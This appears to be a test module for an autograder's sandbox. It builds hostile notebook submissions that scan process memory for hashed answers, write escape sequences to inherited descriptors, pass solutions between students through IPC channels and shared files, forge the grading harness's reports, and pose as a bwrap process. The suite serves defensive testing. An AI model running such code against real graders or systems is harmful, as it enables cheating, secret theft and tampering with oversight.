"""Attacks from inside the box: submissions whose own code goes after the answer, the
grader's descriptors, classmates, and the grader's trust in what the box says.

Where tests/hostile.py attacks the machine around the box, these attack what the box holds
and what crosses its wall (docs/security.md#threat-model):

- ``inside_reads_answer``: imports the grader package every way it can, walks every folder
  on its ``sys.path`` for the grader's files, and scans ``gc.get_objects()`` and the readable
  memory of its own process for the source notebook's solution lines, Part A's model answer
  and rubric, the reference's code and the hidden tests' inputs. It never holds those
  secrets itself: the test hands it, for each, only its length and a polynomial hash, and it
  compares the hash of every window of what it reads (so finding its own copy of a secret is
  impossible). When its function is called after it found something, it raises
  ``INSIDE-FOUND``. (Every *file* a sandbox can read is searched for the same secrets by
  test_sealed_box's ``test_no_file_a_sandbox_sees_holds_the_answer``, whose scanner may hold
  them: it reads files, not its own memory.)
- ``inside_descriptors``: lists ``/proc/self/fd``, writes a marker (with ANSI escapes) to
  every descriptor that is not one of its own sockets, and reads from every one that can
  be read (the instructor's terminal, if it held one).
- ``inside_channels_a_writes`` and ``inside_channels_b_reads``: the first stores its
  solution in every channel two processes with the same uid might share (the kernel
  keyring, System V shared memory and message queues, POSIX message queues, an abstract
  Unix socket served by a daemon, files in /dev/shm, /tmp, HOME and its folder); the
  second, graded later (in the same course and in every later course of the test), takes a
  solution from any of them, and returns zeros otherwise.
- ``inside_forges_reports``: its function changes ``x`` in place; the cell wraps the
  verdict harness's caller so that the reply says "quiet" and carries unchanged inputs.
  ``inside_modifies_inputs`` is the same function without the forgery: its true merit.
- ``inside_bad_running_index``, ``inside_deep_header``, ``inside_huge_reply``,
  ``inside_garbage_reply``: a correct function whose process sends malformed replies (an
  index out of range, 200 kB of ``[``, 3 x 256 MiB of arrays, fields of the wrong types).
- ``inside_huge_dx``: an honest function returning 4 MiB of zeros.
- ``inside_host_layout``: a correct function whose cell reads everything of the box that
  could name the instructor's file system (mountinfo and the rest of ``/proc`` of every
  process it sees, the environment, its working directory, argv, ``sys.path``, the
  installation's metadata: ``.pth`` and finder files, ``*.dist-info``, ``pyvenv.cfg``, the
  scripts' first lines, the names of every folder it can walk) for the host's paths it is
  given XOR-ed (the checkout, the course, the grading run's temporary folder, the home, the
  Python installation) and the name of the grader's private folder; it reports where it
  found each (``host_layout_needles``).
- ``inside_poses_as_orphan``: a correct function whose cell leaves a daemon shaped like what
  the grader's sweep of orphaned sandboxes kills (named ``bwrap``, the grading sandbox's
  ``--chdir``, first of a PID namespace it makes if it may), and lists what it sees of the
  machine's processes.

Each prints ``HOSTILE-REPORT <json>`` (tests/hostile.py's ``report_of`` reads it back from
the kernel's run) and never raises at top level.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat
import numpy as np
from corpus import ASSIGNMENT, LOOP_CORRECT, ZEROS, Submission, notebook_with
from hostile import _SECRET_KEY, GUARD, RUN, _encode

from maxpool_grader.exercise import part_a, reference
from maxpool_grader.exercise.checks import HIDDEN_CHECKS

HASH_BASE = 1_000_003  # odd: invertible modulo 2**64
SECRET_BYTES = 48  # every secret is cut to this length: one pass over the windows finds them all
MARKER = "INSIDE-FD-MARKER"
FOUND = "INSIDE-FOUND"
SCAN_SECONDS = 20.0  # the answer-reading attack's own deadline: a cell and a load must be allowed more
CHANNEL = "maxpool-channel"
SOURCE_NOTEBOOK = Path(__file__).resolve().parent.parent / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
RELEASE_NOTEBOOK = Path(__file__).resolve().parent.parent / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"


# --------------------------------------------------------------------------- the secrets
def window_hash(data: bytes) -> int:
    """sum(data[j] * B**-j) modulo 2**64: what the attack computes for every window."""
    inverse = pow(HASH_BASE, -1, 1 << 64)
    total, power = 0, 1
    for byte in data:
        total = (total + byte * power) % (1 << 64)
        power = power * inverse % (1 << 64)
    return total


def answer_secrets() -> dict[str, bytes]:
    """What no process of the box may hold: lines of the source notebook's solution, of the
    reference, of Part A's model answer and rubric, and the raw bytes of hidden inputs."""
    source = nbformat.read(SOURCE_NOTEBOOK, as_version=4)
    solution = next(cell.source for cell in source.cells
                    if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == ASSIGNMENT)
    body = solution.split("### BEGIN SOLUTION", 1)[1].split("### END SOLUTION", 1)[0]
    release = "\n".join(cell.source for cell in nbformat.read(RELEASE_NOTEBOOK, as_version=4).cells)
    public = LOOP_CORRECT + ZEROS + release  # what the attacker's cell and the release notebook hold
    secrets: dict[str, bytes] = {}

    def lines_of(label: str, text: str, most: int) -> None:
        # a docstring's line without its quotes: the text a module holds in memory once imported
        lines = [re.sub(r'^[rbuf]*"""', "", line.strip()) for line in text.splitlines()]
        found = [line[:SECRET_BYTES] for line in lines if len(line) >= SECRET_BYTES and line.isascii()]
        found = [line for line in found if line not in public]
        for number, line in enumerate(sorted(set(found))[:most]):
            secrets[f"{label} {number}"] = line.encode()

    lines_of("solution line", body, 3)
    lines_of("reference line", Path(reference.__file__).read_text(), 3)
    lines_of("model answer", part_a.MODEL_ANSWER, 3)
    lines_of("rubric", part_a.RUBRIC, 3)
    for check in HIDDEN_CHECKS.values():
        for number, case in enumerate(check.cases()):
            values, data = case.x.ravel(), case.x.tobytes()
            steps = np.diff(values)
            shuffled = len(set(values.tolist())) >= 12 and not (np.all(steps > 0) or np.all(steps < 0))
            if case.x.dtype.kind == "f" and shuffled and len(data) >= SECRET_BYTES:  # random: nothing else has it
                secrets[f"hidden input {check.grade_id} {number}"] = data[:SECRET_BYTES]
    return secrets


def hashed(secrets: dict[str, bytes]) -> dict[str, str]:
    """What the attack is given: each secret's label by the hash of its bytes."""
    return {str(window_hash(data)): label for label, data in secrets.items()}


# --------------------------------------------------------------------------- the attacks
SEARCH = r'''
import numpy as _inside_np

_INSIDE_POWERS = {}


def _inside_matches(data, targets, chunk=1 << 20):
    # The labels of ``targets`` ({hash: label}, all of SECRET_BYTES bytes) whose hash some
    # window of ``data`` has: one pass over the windows, whatever the number of targets.
    base, length = 1000003, SECRET_LENGTH
    if chunk not in _INSIDE_POWERS:
        with _inside_np.errstate(all="ignore"):
            steps = _inside_np.full(chunk + length, pow(base, -1, 1 << 64), dtype=_inside_np.uint64)
            steps[0] = 1
            down = _inside_np.cumprod(steps)  # B**-t
            steps[:] = base
            steps[0] = 1
            _INSIDE_POWERS[chunk] = (down, _inside_np.cumprod(steps))  # and B**t
    down, up = _INSIDE_POWERS[chunk]
    wanted = _inside_np.array([int(value) for value in targets], dtype=_inside_np.uint64)
    table = _inside_np.zeros(1 << 20, dtype=bool)  # a window's low 20 bits: a target's?
    table[(wanted & _inside_np.uint64((1 << 20) - 1)).astype(_inside_np.int64)] = True
    found = set()
    view = memoryview(data).cast("B")
    with _inside_np.errstate(all="ignore"):
        for start in range(0, max(len(view) - length + 1, 0), chunk):
            piece = _inside_np.frombuffer(view[start:start + chunk + length - 1], dtype=_inside_np.uint8)
            count = len(piece) - length + 1
            if count <= 0:
                break
            if not piece.any():
                continue  # all zeros (untouched pages, mostly): no secret is
            prefix = _inside_np.zeros(len(piece) + 1, dtype=_inside_np.uint64)
            _inside_np.cumsum(piece * down[:len(piece)], out=prefix[1:])
            windows = (prefix[length:length + count] - prefix[:count]) * up[:count]
            maybe = windows[table[(windows & _inside_np.uint64((1 << 20) - 1)).astype(_inside_np.int64)]]
            for value in maybe:
                if str(int(value)) in targets:
                    found.add(targets[str(int(value))])
    return found
'''.replace("SECRET_LENGTH", str(SECRET_BYTES))

READS_ANSWER = r'''
def _hostile_attack(P):
    import gc
    import importlib
    import os
    import sys
    import time

    started = time.monotonic()
    targets = P["targets"]
    found, where, imported, paths = set(), {}, [], []
    sys.meta_path[:] = [finder for finder in sys.meta_path if "Guard" not in type(finder).__name__]

    def look(label, data):
        try:
            for hit in _inside_matches(data, targets):
                if hit not in found:
                    found.add(hit)
                    where[hit] = label
        except Exception as problem:  # noqa: BLE001
            where.setdefault("errors", []).append(repr(problem)[:200])

    grader = "maxpool" + "_" + "grader"  # spelled out, the grader's static check would refuse the cell
    for name in ("", ".checks", ".exercise.part_a", ".exercise.checks", ".exercise.reference"):
        try:
            importlib.import_module(grader + name)
            imported.append(grader + name)
        except BaseException:  # noqa: BLE001
            pass
    for name, module in list(sys.modules.items()):
        if "maxpool" in name:
            imported.append("in sys.modules: " + name)

    # every folder of sys.path, for the grader's files (by name: test_sealed_box's
    # test_no_file_a_sandbox_sees_holds_the_answer reads every file's content); those read
    for top in [entry for entry in sys.path if entry and os.path.isdir(entry)] + ["/run", "/etc", "/opt", "/srv"]:
        for folder, dirnames, filenames in os.walk(top):
            for name in dirnames + filenames:
                if "maxpool" in name.lower():
                    paths.append(os.path.join(folder, name))
            if "maxpool" in folder.lower():
                for name in filenames:
                    try:
                        with open(os.path.join(folder, name), "rb") as handle:
                            look(os.path.join(folder, name), handle.read(4 << 20))
                    except OSError:
                        pass

    # every object the collector tracks, and the strings and arrays they hold, in one buffer
    seen, held = set(), []
    for holder in gc.get_objects():
        for item in [holder, *gc.get_referents(holder)]:
            if id(item) in seen:
                continue
            seen.add(id(item))
            if isinstance(item, str) and len(item) >= 40:
                held.append(item.encode("utf-8", "surrogatepass"))
            elif isinstance(item, (bytes, bytearray)) and len(item) >= 40:
                held.append(bytes(item))
            elif type(item).__name__ == "ndarray" and getattr(item, "nbytes", 0) >= 40:
                try:
                    held.append(item.tobytes())
                except Exception:  # noqa: BLE001
                    pass
    look("gc objects", b"\0".join(held))
    del held
    # the readable memory of this process that it made itself (heap, stacks, anonymous and
    # shared memory; mappings of files are those files), read with process_vm_readv (a page
    # unmapped meanwhile is a short read, not a crash; /proc/self/mem is closed to a process
    # that changed its uid)
    import ctypes

    class _Vec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    buffer = ctypes.create_string_buffer(16 << 20)
    scanned = 0
    with open("/proc/self/maps") as maps:
        regions = maps.read().splitlines()
    for line in regions:
        fields = line.split()
        if len(fields) < 2 or "r" not in fields[1] or "[v" in line:
            continue
        if len(fields) > 5 and fields[5].startswith("/") and not fields[5].startswith("/memfd:"):
            continue  # a file's pages: what the file holds (the walk above reads what could hold the answer)
        low, high = (int(part, 16) for part in fields[0].split("-"))
        for start in range(low, high, 16 << 20):
            size = min(16 << 20, high - start)
            got = libc.process_vm_readv(os.getpid(), ctypes.byref(_Vec(ctypes.addressof(buffer), size)), 1,
                                        ctypes.byref(_Vec(start, size)), 1, 0)
            if got <= 0:
                break
            scanned += got
            look("memory " + (fields[5] if len(fields) > 5 else "anonymous"), memoryview(buffer)[:got])
    global _inside_found
    _inside_found = sorted(found)
    _hostile_report({"found": sorted(found), "where": where, "imported": imported, "paths": paths[:50],
                     "memory_mib": scanned >> 20,
                     "seconds": round(time.monotonic() - started, 1)})
'''

DESCRIPTORS = r'''
def _hostile_attack(P):
    import os
    import select

    held = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            held[int(name)] = os.readlink("/proc/self/fd/" + name)
        except OSError:
            pass
    written, heard = [], []
    import sys
    verdict = hasattr(sys.modules.get("__main__"), "read_frame")  # the verdict process: its pipes are its replies
    for fd, target in sorted(held.items()):
        if target.startswith(("socket:", "anon_inode:")) or target.endswith("/fd") or (
                verdict and target.startswith("pipe:")):
            continue  # the process's own channels (writing there only breaks its own run)
        try:
            os.write(fd, ("\x1b[2J\x1b[31m%s %d (%s)\x1b[0m\n" % (P["marker"], fd, target)).encode())
            written.append(fd)
        except OSError:
            pass
        try:
            os.set_blocking(fd, False)
            if select.select([fd], [], [], 0.2)[0]:
                data = os.read(fd, 4096)
                if data:
                    heard.append(data.decode(errors="replace"))
        except (OSError, ValueError):
            pass
    for fd in (1, 2):  # past sys.stdout, at the descriptor
        try:
            os.write(fd, ("%s at fd %d\n" % (P["marker"], fd)).encode())
        except OSError:
            pass
    _hostile_report({"fds": {str(fd): target for fd, target in sorted(held.items())}, "written": written,
                     "heard": heard})
'''

CHANNELS_WRITE = r'''
def _hostile_attack(P):
    import ctypes
    import os
    import platform
    import socket
    import time

    payload = P["code"].encode()
    name = P["channel"].encode()
    libc = ctypes.CDLL(None, use_errno=True)
    calls = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (248, 250))
    stored = {}
    for ring in (-4, -5, -3):  # the user, user-session and session keyrings
        key = libc.syscall(calls[0], b"user", name, payload, len(payload), ring)
        stored["keyring %d" % ring] = key if key >= 0 else "errno %d" % ctypes.get_errno()
        if key >= 0:
            libc.syscall(calls[1], 15, key, 120)  # KEYCTL_SET_TIMEOUT: gone in 2 minutes whatever happens
    libc.shmget.restype = ctypes.c_int
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(0x6D617870, 65536, 0o1666)  # IPC_CREAT | 0666
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, payload + b"\0", len(payload) + 1)
        stored["sysv shm"] = segment
    else:
        stored["sysv shm"] = "errno %d" % ctypes.get_errno()
    queue = libc.msgget(0x6D617871, 0o1666)
    if queue >= 0:
        message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + len(payload))
        ctypes.memmove(ctypes.addressof(message), ctypes.byref(ctypes.c_long(1)), ctypes.sizeof(ctypes.c_long))
        ctypes.memmove(ctypes.addressof(message) + ctypes.sizeof(ctypes.c_long), payload, len(payload))
        stored["sysv msg"] = libc.msgsnd(queue, message, len(payload), 0o4000)  # IPC_NOWAIT
    try:
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
        rt.mq_open.restype = ctypes.c_int
        mq = rt.mq_open(b"/" + name, os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK, 0o666, None)
        stored["posix mq"] = rt.mq_send(mq, payload[:8000], min(len(payload), 8000), 0) if mq >= 0 \
            else "errno %d" % ctypes.get_errno()
    except OSError as problem:
        stored["posix mq"] = repr(problem)
    try:
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(b"\0" + name)
        server.listen(8)
        if os.fork() == 0:  # a daemon that serves the solution for a while
            try:
                os.setsid()
                server.settimeout(1.0)
                end = time.monotonic() + 30
                while time.monotonic() < end:
                    try:
                        client, _ = server.accept()
                        client.sendall(payload)
                        client.close()
                    except OSError:
                        pass
            finally:
                os._exit(0)
        stored["abstract socket"] = "serving"
    except OSError as problem:
        stored["abstract socket"] = repr(problem)
    for folder in ("/dev/shm", "/tmp", os.environ.get("HOME", "/tmp"), os.getcwd(), "/run", "/var/tmp"):
        try:
            with open(os.path.join(folder, P["channel"]), "wb") as handle:
                handle.write(payload)
            os.chmod(os.path.join(folder, P["channel"]), 0o666)
            stored["file " + folder] = "written"
        except OSError as problem:
            stored["file " + folder] = repr(problem)[:100]
    _hostile_report({"stored": stored})
'''

CHANNELS_READ = r'''
def _hostile_attack(P):
    import ctypes
    import os
    import platform
    import socket

    name = P["channel"].encode()
    libc = ctypes.CDLL(None, use_errno=True)
    keyctl = {"x86_64": 250, "aarch64": 219}.get(platform.machine(), 250)
    found = {}
    for ring in (-4, -5, -3):
        key = libc.syscall(keyctl, 10, ring, b"user", name, 0)  # KEYCTL_SEARCH
        if key >= 0:
            buffer = ctypes.create_string_buffer(1 << 16)
            size = libc.syscall(keyctl, 11, key, buffer, len(buffer))  # KEYCTL_READ
            if size > 0:
                found["keyring"] = buffer.raw[:size].decode(errors="replace")
    libc.shmget.restype = ctypes.c_int
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(0x6D617870, 0, 0)
    if segment >= 0:
        address = libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
        if address not in (None, ctypes.c_void_p(-1).value):
            found["sysv shm"] = ctypes.string_at(address).decode(errors="replace")
    queue = libc.msgget(0x6D617871, 0)
    if queue >= 0:
        message = ctypes.create_string_buffer(1 << 16)
        size = libc.msgrcv(queue, message, len(message) - 8, 0, 0o4000)
        if size > 0:
            found["sysv msg"] = message.raw[8:8 + size].decode(errors="replace")
    try:
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
        mq = rt.mq_open(b"/" + name, os.O_RDONLY | os.O_NONBLOCK)
        if mq >= 0:
            message = ctypes.create_string_buffer(1 << 16)
            size = rt.mq_receive(mq, message, len(message), None)
            if size > 0:
                found["posix mq"] = message.raw[:size].decode(errors="replace")
    except OSError:
        pass
    try:
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.settimeout(1.0)
        client.connect(b"\0" + name)
        found["abstract socket"] = client.recv(1 << 16).decode(errors="replace")
    except OSError:
        pass
    for folder in ("/dev/shm", "/tmp", os.environ.get("HOME", "/tmp"), os.getcwd(), "/run", "/var/tmp"):
        try:
            with open(os.path.join(folder, P["channel"]), "rb") as handle:
                found["file " + folder] = handle.read().decode(errors="replace")
        except OSError:
            pass
    global _inside_shared
    _inside_shared = next((code for code in found.values() if "def max_pool_backward" in code), None)
    _hostile_report({"found": sorted(found)})
'''

# The verdict harness's caller wrapped: replies say "quiet" and carry the inputs as sent.
FORGES_REPORTS = r'''
def _hostile_attack(P):
    import io
    import sys

    import numpy

    harness = sys.modules.get("__main__")
    if harness is None or not hasattr(harness, "_call"):
        _hostile_report({"harness": False})
        return
    original = harness._call

    def forged(function, request, given, *more):
        sent = []  # d_output and x as the grader sent them
        if isinstance(given, (list, tuple)):  # a harness that sends the inputs in the request
            for blob in given:
                try:
                    sent.append(numpy.lib.format.read_array(io.BytesIO(bytes(blob))).copy())
                except Exception:  # noqa: BLE001
                    pass
        elif hasattr(harness, "inputs_over"):  # one that hands them over in shared memory
            sent = [array.copy() for array in harness.inputs_over(given, request["inputs"])]
        reply, out = original(function, request, given, *more)
        if isinstance(reply, dict) and "ok" in reply:
            reply = dict(reply, quiet=True)
            if len(sent) == 2:  # "my inputs are as you sent them"
                out = (out[0], sent[1], sent[0])
        return reply, out

    harness._call = forged
    _hostile_report({"harness": True})
'''

MODIFIES_INPUTS = LOOP_CORRECT.replace(
    "    return dx\n", "    if isinstance(x, np.ndarray) and x.flags.writeable:\n        x[...] = 0\n    return dx\n")

# Malformed replies: the harness's write_frame patched, one way per submission.
MALFORMED = r'''
def _hostile_attack(P):
    import struct
    import sys

    harness = sys.modules.get("__main__")
    if harness is None or not hasattr(harness, "write_frame"):
        _hostile_report({"harness": False})
        return
    original, how = harness.write_frame, P["how"]

    def write_raw(fd, data):
        view = memoryview(data)
        while view:
            view = view[harness.os.write(fd, view):]

    def malformed(fd, header, arrays=()):
        if how == "bad running index":
            if "running" in header:
                return original(fd, dict(header, running=10 ** 6), arrays)
            return original(fd, dict(header, cell_errors=[{"ran": -7, "cell": 10 ** 9, "line": "x"}]), arrays)
        if how == "deep header":
            deep = b"[" * 200000
            return write_raw(fd, struct.pack("<I", len(deep)) + deep)
        if how == "huge reply" and arrays:  # the reply to a call
            chunk = bytes(1 << 20)
            text = ('{"id": %d, "ok": true, "arrays": [268435456, 268435456, 268435456]}' % header["id"]).encode()
            write_raw(fd, struct.pack("<I", len(text)) + text)
            for _ in range(768):
                write_raw(fd, chunk)
            return None
        if how == "garbage reply" and arrays:
            return original(fd, {"id": header["id"], "raised": {"type": ["list"], "message": {"a": 1},
                                                                "cell": "zero", "line": [1], "text": 7}})
        return original(fd, header, arrays)

    harness.write_frame = malformed
    _hostile_report({"harness": True, "how": how})
'''

POSES_AS_ORPHAN = r'''
def _hostile_attack(P):
    import os
    import subprocess
    import sys

    # a daemon that looks like a sandbox's init whose bwrap died (what the grader's sweep kills):
    # named bwrap, the grading sandbox's bwrap options, first of a PID namespace of its own
    code = (
        "import ctypes, os, time\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.prctl(15, b'bwrap', 0, 0, 0)\n"  # PR_SET_NAME
        "failed = libc.unshare(0x10000000 | 0x20000000)\n"  # CLONE_NEWUSER | CLONE_NEWPID
        "made = 'errno %d' % ctypes.get_errno() if failed else 'a PID namespace'\n"
        "if os.fork() == 0:\n"
        "    time.sleep(900)\n"
        "    os._exit(0)\n"
        "print(made, flush=True)\n"
        "time.sleep(900)\n")
    child = subprocess.Popen([sys.executable, "-c", code, "--chdir", "/scratch/submission"], start_new_session=True,
                             stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    made = child.stdout.readline().strip()
    seen = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            seen[pid] = open("/proc/%s/comm" % pid).read().strip()
        except OSError:
            pass
    _hostile_report({"made": made, "processes_seen": seen, "uid": os.getuid(), "cwd": os.getcwd()})
'''

HOST_LAYOUT = r'''
def _hostile_attack(P):
    import os
    import re
    import sys
    import time

    deadline = time.monotonic() + P["seconds"]
    needles = {label: bytes(b ^ P["key"] for b in bytes.fromhex(code)) for label, code in P["needles"].items()}
    private = re.compile(rb"maxpool-grader-\d+")  # the grader's private folder (each sandbox's is under it)
    found, read = {}, 0

    def look(where, data):
        nonlocal read
        if isinstance(data, str):
            data = data.encode(errors="surrogateescape")
        read += 1
        for label, needle in needles.items():
            if needle and needle in data:
                found.setdefault(label, []).append(where)
        for hit in sorted(set(private.findall(data)))[:3]:
            found.setdefault("private folder", []).append(where + ": " + hit.decode())

    def read_file(path, most=1 << 20):
        try:
            with open(path, "rb") as handle:
                look(path, handle.read(most))
        except OSError:
            pass

    look("os.environ", b"\n".join(k + b"=" + v for k, v in os.environb.items()))
    look("cwd", os.getcwd())
    look("argv", "\n".join(sys.argv))
    look("sys.path", "\n".join(sys.path))
    look("sys.prefix", "\n".join([sys.prefix, sys.base_prefix, sys.exec_prefix, sys.executable]))
    look("modules", "\n".join(str(getattr(module, "__file__", "")) for module in list(sys.modules.values())))
    pids = [name for name in os.listdir("/proc") if name.isdigit()] + ["self", "thread-self"]
    for pid in pids:
        for name in ("mountinfo", "mounts", "mountstats", "cmdline", "environ", "maps", "cgroup", "status",
                     "stat", "sched", "comm", "attr/current", "cpuset"):
            read_file("/proc/%s/%s" % (pid, name))
        for name in ("cwd", "exe", "root"):
            try:
                look("/proc/%s/%s" % (pid, name), os.readlink("/proc/%s/%s" % (pid, name)))
            except OSError:
                pass
        try:
            for fd in os.listdir("/proc/%s/fd" % pid):
                look("/proc/%s/fd/%s" % (pid, fd), os.readlink("/proc/%s/fd/%s" % (pid, fd)))
        except OSError:
            pass
    for path in ("/proc/mounts", "/proc/cmdline", "/proc/self/net/unix", "/proc/swaps", "/proc/filesystems"):
        read_file(path)
    for folder in ("/etc", "/run"):
        for top, dirs, files in os.walk(folder):
            for name in files:
                read_file(os.path.join(top, name))
    # the installation's metadata: what pip and venv write down of where things were
    places = {entry for entry in sys.path if entry and os.path.isdir(entry)} | {sys.prefix, sys.base_prefix}
    for place in sorted(places):
        read_file(os.path.join(place, "pyvenv.cfg"))
        try:
            names = os.listdir(place)
        except OSError:
            continue
        look("listdir " + place, "\n".join(names))
        for name in names:
            path = os.path.join(place, name)
            if name.endswith((".pth", ".egg-link")) or name.startswith("__editable__"):
                read_file(path)
            elif name.endswith((".dist-info", ".egg-info")) and os.path.isdir(path):
                for inner in os.listdir(path):
                    read_file(os.path.join(path, inner), 1 << 16)
    for place in {sys.prefix, sys.base_prefix, os.path.dirname(sys.executable)}:
        folder = place if place.endswith("/bin") else os.path.join(place, "bin")
        try:
            for name in os.listdir(folder):
                read_file(os.path.join(folder, name), 256)  # a script's first line: its interpreter
        except OSError:
            pass
    # the names of every folder it can walk (a mount point at the host's path shows there)
    walked, cut = [], False
    for top, dirs, files in os.walk("/"):
        cut = cut or time.monotonic() > deadline - 1
        if top in ("/proc", "/sys", "/dev") or cut:
            dirs[:] = []
            continue
        walked.append(top)
    look("folders walked", "\n".join(walked))
    _hostile_report({"found": {label: where[:12] for label, where in found.items()}, "read": read,
                     "folders": len(walked), "walk_complete": not cut})
'''


def host_layout_needles(checkout: str, course: str, tmpdir: str, home: str, python: str) -> dict[str, str]:
    """What ``inside_host_layout`` must find nowhere, by label (each XOR-ed and hex-encoded,
    as hostile.py's secrets: the cell's own text holds none of them)."""
    needles = {"the checkout": checkout, "the course": course, "the grading run's temporary folder": tmpdir,
               "the home": home}
    if not python.startswith("/usr/"):  # a Python of the system is where the box mounts it anyway
        needles["the Python installation"] = python
    return {label: _encode(path.rstrip("/") + "/") for label, path in needles.items() if path.rstrip("/")}


def build_host_layout_attack(seconds: float, full: float, passed: str, needles: dict[str, str]) -> Submission:
    """``inside_host_layout`` (module doc), with the encoded ``needles`` of host_layout_needles."""
    code = inside_cell(HOST_LAYOUT, {"seconds": float(seconds), "needles": needles, "key": _SECRET_KEY},
                       LOOP_CORRECT)
    return Submission("inside_host_layout", "reads everything that could name the host's folders and looks for them",
                      _built(code), full, passed)


HUGE_DX = "def max_pool_backward(d_output, x, pool_size, stride=None):\n    return np.zeros(4 << 20, np.int8)\n"


def inside_cell(body: str, params: dict, tail: str) -> str:
    """A solution cell: the guard, the parameters, the attack, its run, then ``tail``."""
    return (GUARD + SEARCH + f"\n_hostile_params = _hostile_json.loads({json.dumps(params)!r})\n\n" + body + RUN
            + "\n\n" + tail.strip("\n") + "\n")


FOUND_TAIL = LOOP_CORRECT + f'''
_inside_correct = max_pool_backward


def max_pool_backward(d_output, x, pool_size, stride=None):
    if globals().get("_inside_found"):
        raise RuntimeError("{FOUND} " + ", ".join(_inside_found))
    return _inside_correct(d_output, x, pool_size, stride)
'''

SHARED_TAIL = ZEROS + '''
if globals().get("_inside_shared"):
    exec(_inside_shared, globals())
'''


def _built(code: str):
    def build(folder: Path, release: nbformat.NotebookNode) -> None:
        nbformat.write(notebook_with(release, code), folder / f"{ASSIGNMENT}.ipynb")
    return build


def build_inside_attacks(seconds: float, zero: float, full: float, passed: str) -> list[Submission]:
    """The submissions of the module doc. ``zero``/``full``: the scores of returning zeros and
    of a correct function; ``passed``: what a correct function's feedback shows."""
    common = {"seconds": float(seconds)}
    # the scan reads a few hundred MiB of memory: it needs more time than the others (SCAN_SECONDS)
    reads = inside_cell(READS_ANSWER, dict(common, seconds=SCAN_SECONDS, targets=hashed(answer_secrets())), FOUND_TAIL)
    attacks = [
        Submission("inside_reads_answer", "imports the grader, scans its files, gc and its own memory for the answer",
                   _built(reads), full, passed),
        Submission("inside_descriptors", "writes a marker to every descriptor it holds, reads the terminal",
                   _built(inside_cell(DESCRIPTORS, dict(common, marker=MARKER), LOOP_CORRECT)), full, passed),
        Submission("inside_channels_a_writes", "stores its solution in the keyring, IPC, sockets and files",
                   _built(inside_cell(CHANNELS_WRITE, dict(common, channel=CHANNEL, code=LOOP_CORRECT), LOOP_CORRECT)),
                   full, passed),
        Submission("inside_channels_b_reads", "takes a classmate's solution from any shared channel, else zeros",
                   _built(inside_cell(CHANNELS_READ, dict(common, channel=CHANNEL), SHARED_TAIL)), zero, ""),
        Submission("inside_forges_reports", "changes x in place; its harness replies quiet, with the inputs as sent",
                   _built(inside_cell(FORGES_REPORTS, common, MODIFIES_INPUTS)), full - 1, "Inputs left unmodified"),
        Submission("inside_modifies_inputs", "changes x in place (the forgery's true merit)",
                   _built(MODIFIES_INPUTS), full - 1, "Inputs left unmodified"),
        Submission("inside_huge_dx", "returns 4 MiB of zeros", _built(HUGE_DX), zero, "shape"),
        Submission("inside_poses_as_orphan", "leaves a daemon that looks like a sandbox init whose bwrap died",
                   _built(inside_cell(POSES_AS_ORPHAN, common, LOOP_CORRECT)), full, passed),
    ]
    for how in ("bad running index", "deep header", "huge reply", "garbage reply"):
        attacks.append(Submission(f"inside_{how.replace(' ', '_')}", f"a correct function; its process sends a {how}",
                                  _built(inside_cell(MALFORMED, dict(common, how=how), LOOP_CORRECT)), zero,
                                  "could not read"))
    return attacks
